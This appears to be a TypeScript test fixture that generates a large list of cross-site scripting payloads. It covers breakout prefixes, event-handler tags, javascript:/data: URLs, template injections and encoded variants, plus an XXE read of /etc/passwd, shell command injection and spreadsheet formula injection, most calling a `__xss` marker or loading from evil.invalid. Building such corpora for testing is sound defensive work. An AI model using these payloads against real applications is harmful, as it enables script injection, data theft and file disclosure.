/**
 * Texts that run as code where somebody forgets that they are texts: one for each way out of a context that browsers know,
 * put together from the parts that such texts are made of. Each calls `__xss`, or asks for something at `evil.invalid`.
 */

const RUN = '__xss(1)'
const AWAY = 'https://evil.invalid/x'

/** Out of whatever the text stands in: an attribute, an element, a comment, a script, a style. */
const ways = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '</text></svg>',
  '*/',
]

const elements = [
  `<script>${RUN}</script>`,
  `<script src=${AWAY}></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${AWAY}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN}></svg>`,
  `<svg><use href="${AWAY}#x"/></svg>`,
  `<svg><image href="${AWAY}"/></svg>`,
  `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload=${RUN}></foreignObject></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>a</text></a></svg>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${AWAY}">`,
  `<link rel=stylesheet href=${AWAY}>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<base href=${AWAY}>`,
  `<form action="javascript:${RUN}"><input type=submit autofocus></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<style>@import '${AWAY}';</style>`,
  `<style>*{background:url(${AWAY})}</style>`,
  `<math><mtext><style><img src=x onerror=${RUN}></style></mtext></math>`,
  `<a href="javascript:${RUN}">a</a>`,
  `<button popovertarget=x onbeforetoggle=${RUN}>`,
]

/** What follows a quotation mark in a tag that somebody else opened. */
const attributes = [
  `onmouseover=${RUN}`,
  `autofocus onfocus=${RUN}`,
  `onpointerenter=${RUN} style=position:fixed;inset:0`,
  `onanimationstart=${RUN} style=animation:x`,
  `style=background:url(${AWAY})`,
  `href=javascript:${RUN}`,
  `src=x onerror=${RUN}`,
  `xlink:href=javascript:${RUN}`,
]

const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://x%0a${RUN}`,
  `javascript&colon;${RUN}`,
  `jav&#x09;ascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `file:///etc/passwd`,
  `//evil.invalid/x`,
  `\\\\evil.invalid\\x`,
  AWAY,
  `blob:${AWAY}`,
  `url(${AWAY})`,
  `@import '${AWAY}'`,
  `![x](${AWAY})`,
  `[x](javascript:${RUN})`,
  `[x]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `<${AWAY}>`,
]

/** Out of a text in code, a template or a message. */
const expressions = [
  `';${RUN};'`,
  `";${RUN};"`,
  `\`;${RUN};\``,
  `\\';${RUN};//`,
  `\\";${RUN};//`,
  `\${${RUN}}`,
  `{{${RUN}}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `[[${RUN}]]`,
  `$(${RUN})`,
  `@{${RUN}}`,
  `{0}{1}{name}`,
  `{count, plural, other {${RUN}}}`,
  `$t(${RUN})`,
  `<0>${RUN}</0>`,
  `%s%n%x`,
  `);${RUN};(`,
  `\u2028${RUN}\u2028`,
  `=cmd|' /C calc'!A0`,
  `+${RUN}`,
  `@SUM(1)`,
  `; touch /tmp/xss`,
  `\` touch /tmp/xss \``,
]

/** The same thing in other writings, which decoders turn back. */
const disguised = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `\\x3cimg src=x onerror=${RUN}\\x3e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `%253Cscript%253E${RUN}`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img/src=x/onerror=${RUN}>`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img src=x\nonerror\n=\n${RUN}>`,
  `<img src=x onerror=&#95;&#95;xss(1)>`,
  `<svg/onload=${RUN}//`,
  `<<script>${RUN}//<</script>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<?xml-stylesheet href="${AWAY}"?>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `\u202e<img src=x onerror=${RUN}>`,
  `\ud800<img src=x onerror=${RUN}>`,
]

/** All of them, each once. */
export const payloads: readonly string[] = [
  ...new Set([
    ...elements,
    ...ways.slice(1).flatMap((way) => elements.slice(0, 12).map((element) => way + element)),
    ...[`" `, `' `, '` ', ' '].flatMap((quote) => attributes.map((attribute) => quote + attribute)),
    ...addresses,
    ...expressions,
    ...disguised,
  ]),
]
